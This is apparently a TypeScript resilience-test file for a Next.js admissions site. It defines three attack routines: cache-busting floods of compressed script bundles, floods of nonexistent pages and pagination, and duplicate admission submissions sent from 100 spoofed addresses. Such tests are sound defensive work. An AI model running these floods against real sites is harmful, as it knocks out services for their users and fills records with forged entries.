import {
  type Attack,
  addresses,
  agentFrom,
  floodWithGets,
  post,
  readPage,
  repeat,
} from '../attack';

/** Each query once made a copy of the script, compressed anew and kept. */
export const scriptQueries: Attack = async (site) => {
  const page = await readPage(site, '/register');
  const scripts = [...page.matchAll(/"(\/_next\/static\/[^"]+\.js)/g)].map(([, path = '']) => path);
  const br = { 'accept-encoding': 'br' };
  await floodWithGets(site, (n) => `${scripts[n % scripts.length]}?x=${n}`, br);
};

/** Of no page, of no item, of pages behind the last. */
export const unknownAddresses: Attack = (site) =>
  floodWithGets(
    site,
    (n) => {
      const kinds = [`/no-such-page-${n}`, `/news-event/detail/no-${n}`, `/news-event?page=${n}`];
      return kinds[n % kinds.length] ?? '/';
    },
    { 'accept-encoding': 'gzip' },
  );

/** The same parent's application begun from many places at once. */
export const applications: Attack = (site) => {
  const agents = addresses(100).map((address) => agentFrom(address, site, 1));
  const parent = { first_name: 'Keshav', last_name: 'Rao', email: 'parent@example.org' };
  return repeat(64, async (n) => {
    const agent = agents[n % agents.length];
    if (agent) await post(agent, site, 'create-admission', parent);
  });
};
